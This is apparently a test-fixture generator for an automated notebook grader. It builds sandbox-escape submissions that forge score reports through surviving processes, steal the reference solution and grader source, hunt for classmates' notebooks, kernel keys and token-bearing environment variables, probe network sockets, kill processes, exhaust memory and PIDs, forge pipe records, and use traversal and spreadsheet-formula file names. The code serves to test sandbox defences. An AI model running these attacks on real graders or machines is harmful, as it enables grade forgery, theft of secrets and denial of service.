# ruff: noqa: E501  (the attacks are code written inline, one submission per entry)
"""Build the attack corpus: submissions that try to escape the sandbox, each with the verdict it must get.

Run `python tools/make_attacks.py` after changing an attack; it writes
tests/grading/attacks/fixtures/*.ipynb and expected.json (both committed). Every attack is
an answer to exercise 1. Where an attack "wins" (it reached the reference, a secret, the
network, another submission...) it returns the right answer and would earn 2 points; where
it fails it returns zeros. So a score of 0 is the proof that it failed. The attacks that only
try to leave something behind (a process, a file) are checked by test_attacks.py, which
looks for their marker `bpteach-attack` after the whole corpus has run.
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat

from bpteach.grading.batch import sources

SOURCE = sources()["backprop-exercises"]  # the workbook: seven exercises

HERE = Path(__file__).resolve().parents[1] / "tests" / "grading" / "attacks"
OUT = HERE / "fixtures"
STUDENT = SOURCE.parent / "student" / SOURCE.name

RIGHT = "-(y - h) * fprime_z"
FORMULA = "=HYPERLINK(14 of 14)"  # a file name that is a spreadsheet formula (and legal on every OS)
# Every attack ends with this: the right answer if it won, zeros if it did not.
VERDICT = f"""

def output_delta(y, h, fprime_z):
    if WON:
        return {RIGHT}
    return np.zeros_like(y)
"""

WALK = """
import os


def _walk(top="/", limit=150000, skip=("/proc", "/sys", "/dev", "/usr/share", "/usr/include", "/usr/src",
                                        "/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu")):
    seen = 0
    for root, dirs, files in os.walk(top, onerror=lambda e: None):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
        for name in files + dirs:
            seen += 1
            if seen > limit:
                return
            yield os.path.join(root, name)


def _cmdline_outs():
    outs = []
    for pid in os.listdir("/proc"):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        for i, arg in enumerate(argv[:-1]):
            if arg in (b"--out", b"-o"):
                outs.append(argv[i + 1].decode(errors="replace"))
    return outs
"""

DETACHED_WRITER = """
def _write_everywhere(tag):
    import json, os, glob
    places = [os.getcwd(), "/tmp", os.path.expanduser("~"), "/root", "/work", os.path.dirname(os.path.dirname(os.__file__))]
    places += _cmdline_outs() + glob.glob("/home/*") + glob.glob("/tmp/*") + glob.glob("/tmp/*/*")
    here = os.getcwd()
    while here != "/":
        here = os.path.dirname(here)
        places.append(here)
    for d in places:
        for name in ("report.json", f"bpteach-attack-{tag}"):
            try:
                with open(os.path.join(d, name), "w") as f:
                    json.dump({"score": 14, "max_score": 14, "by": tag}, f)
            except OSError:
                pass
        for report in glob.glob(os.path.join(d, "*", "report.json")):
            try:
                with open(report, "w") as f:
                    json.dump({"score": 14, "max_score": 14, "by": tag}, f)
            except OSError:
                pass
"""

ATTACKS: dict[str, tuple[str, dict]] = {}


EXTRA: dict[str, dict[str, str]] = {}  # attack -> {grade_id: another cell's source}


def attack(name: str, code: str, status: str = "failed", score: float = 0.0, says: list[str] | None = None,
           others: dict[str, tuple[str, str]] | None = None):
    """`others`: grade_id -> (that cell's source, the status it must get), for attacks on the next exercise."""
    statuses = {"ex1-output-delta": status, **{gid: st for gid, (_, st) in (others or {}).items()}}
    EXTRA[name] = {gid: src for gid, (src, _) in (others or {}).items()}
    ATTACKS[name] = (code, {"score": score, "status": statuses, "others": "not_attempted", "says": says or []})


# ---- forging a score by a process that outlives the grader
attack("outlive-setsid-rewrites-report", WALK + DETACHED_WRITER + """
WON = False
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import time
            for _ in range(40):  # keep trying after the grader has exited
                time.sleep(0.25)
                _write_everywhere("setsid")
            os._exit(0)
        os._exit(0)
except OSError as err:
    print("fork refused:", err)
""")
attack("outlive-nohup", """
import signal, subprocess
WON = False
signal.signal(signal.SIGHUP, signal.SIG_IGN)
for argv in (["nohup", "sh", "-c", "sleep 3; echo bpteach-attack > /tmp/bpteach-attack-nohup"],
             ["sh", "-c", "(sleep 3; echo bpteach-attack > $HOME/bpteach-attack-nohup) &"]):
    try:
        subprocess.Popen(argv, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    except OSError as err:
        print("refused:", err)
""")
attack("outlive-thread-after-return", WALK + DETACHED_WRITER + """
import threading, time
WON = False
def _later():
    time.sleep(1)
    _write_everywhere("thread")
threading.Thread(target=_later).start()
""")
attack("fork-bomb", """
import os, time
WON = False
n = 0
try:
    while n < 10:  # 2**10 processes at most, each gone after 2 s: harmless even where nothing stops it
        if os.fork() == 0:
            time.sleep(2)
        n += 1
except OSError as err:
    print("fork refused after", n, err)
""")
# ---- reaching the reference
attack("reference-importlib", """
import importlib, sys
WON = False
sys.modules.pop("bpteach", None)
try:
    _ref = importlib.import_module("bpt" + "each.backprop")
    WON = True
except Exception as err:
    print(type(err).__name__, err)
""")
attack("reference-dunder-import", """
import sys
WON = False
sys.modules.pop("bpteach", None)
try:
    _ref = __import__("bpt" + "each.backprop", fromlist=["output_delta"])
    WON = True
except Exception as err:
    print(type(err).__name__, err)
""")
attack("reference-runpy", WALK + """
import runpy, sys
WON = False
sys.modules.pop("bpteach", None)
try:
    runpy.run_module("bpt" + "each.backprop")
    WON = True
except Exception as err:
    print(type(err).__name__, err)
for path in _walk():
    if path.endswith(("bpteach/backprop.py", "grading/exercises.py")):
        try:
            runpy.run_path(path)
            WON = True
        except Exception as err:
            print(path, type(err).__name__, err)
""")
attack("reference-exec-open", WALK + """
import sys
WON = False
for path in [p for d in sys.path for p in (os.path.join(d, "bpteach", "backprop.py"),)] + list(_walk()):
    if path.endswith("bpteach/backprop.py"):
        try:
            exec(open(path).read(), {"__name__": "stolen"})
            WON = True
        except Exception as err:
            print(path, type(err).__name__, err)
""")
attack("reads-solutions-from-disk", WALK + """
import json
WON = False
for path in _walk():
    if path.endswith(".ipynb"):
        try:
            text = open(path).read()
        except OSError:
            continue
        if "output_delta" in text and ("BEGIN SOLUTION" in text or "NotImplementedError" not in text):
            print("found", path)
            WON = True
""")
attack("reads-grader-source", WALK + """
WON = False
for path in _walk():
    if path.endswith(("grading/exercises.py", "grading/grade.py", "bpteach/backprop.py")):
        try:
            open(path).read()
            print("read", path)
            WON = True
        except OSError:
            pass
""")
# ---- writing outside the scratch folder, the network, the environment
attack("writes-outside", WALK + DETACHED_WRITER + """
WON = False
_write_everywhere("write")
for path in list(_walk(limit=20000)):
    if path.endswith(("report.json", "expected.json", "grade.py", "exercises.py")):
        try:
            with open(path, "a") as f:
                f.write("bpteach-attack")
            print("wrote", path)
        except OSError:
            pass
""")
attack("opens-a-socket", """
import socket
WON = False
targets = [("1.1.1.1", 53), ("8.8.8.8", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("127.0.0.1", 8866)]
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        for line in open(table).read().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            if state == "0A":  # LISTEN
                targets.append(("127.0.0.1", int(local.rsplit(":", 1)[1], 16)))
    except OSError:
        pass
for host, port in targets:
    try:
        socket.create_connection((host, port), timeout=0.5).close()
        print("connected to", host, port)
        WON = True
    except OSError:
        pass
try:
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        path = line.split()[-1] if len(line.split()) > 7 else ""
        if path.startswith("@") or path.startswith("/"):
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect(("\\0" + path[1:]) if path.startswith("@") else path)
                print("connected to", path)
                WON = True
            except OSError:
                pass
except OSError:
    pass
""")
attack("reads-the-environment", """
import os
WON = False
keys = set(os.environ)
for pid in os.listdir("/proc"):
    try:
        keys |= {e.split(b"=", 1)[0].decode() for e in open(f"/proc/{pid}/environ", "rb").read().split(b"\\0") if e}
    except OSError:
        pass
print(sorted(keys))
if any("SEED" in k or "TOKEN" in k or "CANARY" in k for k in keys):
    WON = True
""")
# ---- escapes between classmates
attack("classmates-case-files", WALK + """
WON = False
for path in _walk():
    name = os.path.basename(path)
    if name.startswith("case") and name.endswith(".npy") or name.startswith("bpteach-grade-"):
        print("found", path)
        WON = True
""")
attack("classmate-connection-file", WALK + """
WON = False
for path in _walk():
    if os.path.basename(path).startswith("kernel-") and path.endswith(".json"):
        try:
            if '"shell_port"' in open(path).read():  # a live kernel's connection file, HMAC key included
                print("found", path)
                WON = True
        except OSError:
            pass
""")
attack("reads-classmates-notebooks", WALK + """
WON = False
mine = os.getcwd()
for path in _walk():
    if path.endswith(".ipynb") and not path.startswith(mine):
        try:
            if "output_delta" in open(path).read():
                print("found", path)
                WON = True
        except OSError:
            pass
""")
attack("collects-work-folders", WALK + """
WON = False
for path in _walk():
    if "hidden" in os.path.basename(path) and path.endswith(".npy") or os.path.basename(path) == "job.json":
        print("found", path)
        WON = True
""")
# ---- the grader process: read-back, a batch that survives, leftovers
attack("fifo-and-sparse-files", """
import os
for d in (".", "/tmp"):
    for name in ("case0__zz.npy", "case0__out.npy", "case1__out.npy"):
        try:
            os.mkfifo(os.path.join(d, name))
        except OSError:
            pass
for i in range(32):
    try:
        with open(f"/tmp/case0__sparse{i}.npy", "wb") as f:
            f.truncate(64 * 1024**2)
    except OSError:
        pass
os.symlink("/dev/zero", "case0__out__0.npy")
WON = True
""", status="passed", score=2.0)
attack("kills-the-grader", """
import os, signal
WON = False
for pid in os.listdir("/proc"):  # every grader process it can see (a pool worker, the harness, bwrap)
    try:
        argv = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    if pid.isdigit() and b"bpteach" in argv.lower():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
except OSError:
    pass
""")  # it sees pids of the sandbox but signals only its own namespace, where it is init
attack("litters-tmp", """
import os
for d in (".", "/tmp", os.path.expanduser("~")):
    try:
        with open(os.path.join(d, "bpteach-attack-litter"), "w") as f:
            f.write("left behind")
    except OSError:
        pass
WON = True
""", status="passed", score=2.0)
attack("fills-memory-outside-tmp", """
import ctypes, os
WON = False
libc = ctypes.CDLL(None, use_errno=True)


def _fill(d, mib=300):  # more than the 256 MiB tmpfs at /tmp: memory the host pays for
    global WON
    written = 0
    try:
        for i in range(mib // 50):
            with open(os.path.join(d, f"bpteach-attack-fill{i}"), "wb") as f:
                for _ in range(50):
                    f.write(b"x" * (1 << 20))
            written += 50
    except OSError as err:
        print(d, err)
    WON = WON or written >= mib
    for i in range(mib // 50):
        try:
            os.unlink(os.path.join(d, f"bpteach-attack-fill{i}"))
        except OSError:
            pass


for d in ("/dev/shm", "/dev", "/", "/etc"):  # bwrap's own tmpfs: the root and /dev
    _fill(d)
if libc.unshare(0x20000) == 0:  # a tmpfs of its own, with every capability of its user namespace
    os.makedirs("/tmp/bpteach-mnt", exist_ok=True)
    if libc.mount(b"none", b"/tmp/bpteach-mnt", b"tmpfs", 0, None) == 0:
        _fill("/tmp/bpteach-mnt")
""")
attack("memory-outside-the-address-space", """
import ctypes, os
WON = False
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.restype, libc.shmat.restype = ctypes.c_int, ctypes.c_void_p
held, fds, segments = 0, [], []
try:  # memfds: kernel memory, not counted in RLIMIT_AS
    for i in range(6):
        fd = os.memfd_create(f"bpteach-attack-{i}")
        for _ in range(64):
            os.write(fd, b"x" * (1 << 20))
        fds.append(fd)
        held += 64
except OSError as err:
    print("memfd", err)
WON = held >= 300
for fd in fds:
    os.close(fd)
held = 0
for i in range(6):  # System V segments: they would even outlive the exercise
    sid = libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1600)
    addr = libc.shmat(sid, None, 0) if sid >= 0 else None
    if addr in (None, ctypes.c_void_p(-1).value):
        print("shm refused:", os.strerror(ctypes.get_errno()))
        break
    ctypes.memset(addr, 1, 64 << 20)
    libc.shmdt(ctypes.c_void_p(addr))
    segments.append(sid)
    held += 64
WON = WON or held >= 300
for sid in segments:
    libc.shmctl(sid, 0, None)  # IPC_RMID
""")
attack("thread-bomb", """
import threading
WON = False
threading.stack_size(64 * 1024)
_stop = threading.Event()
started = 0
try:  # threads are allowed, and each takes a PID of the host's (pid_max is often 32768)
    for _ in range(3000):  # a bomb would not stop here; 3000 spares the machine that runs the tests
        threading.Thread(target=_stop.wait, daemon=True).start()
        started += 1
except RuntimeError as err:
    print("refused after", started, err)
_stop.set()
WON = started >= 1000
""")
attack("one-exercise-patches-the-next", """
import builtins, numpy, sys
numpy.zeros_like = lambda a, *k, **kw: -(a * 0 + 1)
builtins.print = lambda *a, **k: None
sys.modules["numpy"].asarray = lambda *a, **k: None
WON = False
""", others={"ex2-hidden-delta": ("def hidden_delta(W_l, delta_next, fprime_z):\n    return (W_l.T @ delta_next) * fprime_z\n",
                                  "passed")}, score=2.0)

# ---- records forged on the result pipe (fd 3): the grader parses them, it must never crash on them
FORGE = """
import json, os, struct
WON = False


def _record(header, data=b""):
    text = json.dumps(header).encode() if isinstance(header, dict) else header
    blob = struct.pack("<II", len(text), len(data)) + text + data
    while blob:
        blob = blob[os.write(3, blob):]


"""
FORGED = "the result: expected a numpy array, got nothing"
for _name, _record in {
    "forge-shape-wrapping-to-zero": '{"kind": "array", "case": 0, "path": "out", "dtype": "<f8", "shape": [2**62, 4]}',
    "forge-shape-beyond-int64": '{"kind": "array", "case": 0, "path": "out", "dtype": "<f8", "shape": [2**70]}',
    "forge-zero-width-text": '{"kind": "array", "case": 0, "path": "out", "dtype": "<U0", "shape": [3]}',
    "forge-empty-huge-dims": '{"kind": "array", "case": 0, "path": "out", "dtype": "<f8", "shape": [2**31 - 1] * 3 + [0]}',
    "forge-bool-in-shape": '{"kind": "array", "case": 0, "path": "out", "dtype": "<f8", "shape": [True]}, b"\\0" * 8',
    "forge-header-nested-too-deep": 'b"[" * 200000',
}.items():
    attack(_name, FORGE + f"_record({_record})\n_record({{'kind': 'status', 'status': 'ok'}})\nos._exit(0)\n",
           says=[FORGED])


def build() -> None:
    OUT.mkdir(exist_ok=True)
    for old in OUT.glob("*.ipynb"):
        old.unlink()
    expected = {}
    for name, (code, want) in ATTACKS.items():
        nb = nbformat.read(STUDENT, as_version=4)
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "ex1-output-delta")
        cell.source = code.strip() + "\n" + VERDICT
        for gid, source in EXTRA[name].items():
            next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid).source = source
        nbformat.write(nb, OUT / f"{name}.ipynb")
        expected[name] = want
    # a name that would climb out of the reports folder: its report goes to a sanitised folder
    nb = nbformat.read(STUDENT, as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "ex1-output-delta")
    cell.source = f"def output_delta(y, h, fprime_z):\n    return {RIGHT}\n"
    nbformat.write(nb, OUT / "...ipynb")
    expected[".."] = {"score": 2.0, "status": {"ex1-output-delta": "passed"}, "others": "not_attempted", "says": [],
                      "folder": "submission"}
    # a name that is a spreadsheet formula: summary.csv must show it as text
    nbformat.write(nb, OUT / f"{FORMULA}.ipynb")
    expected[FORMULA] = {"score": 2.0, "status": {"ex1-output-delta": "passed"}, "others": "not_attempted", "says": [],
                         "folder": "HYPERLINK_14_of_14"}
    (HERE / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")


if __name__ == "__main__":
    build()
    print(f"wrote {len(list(OUT.glob('*.ipynb')))} attacks to {OUT}")
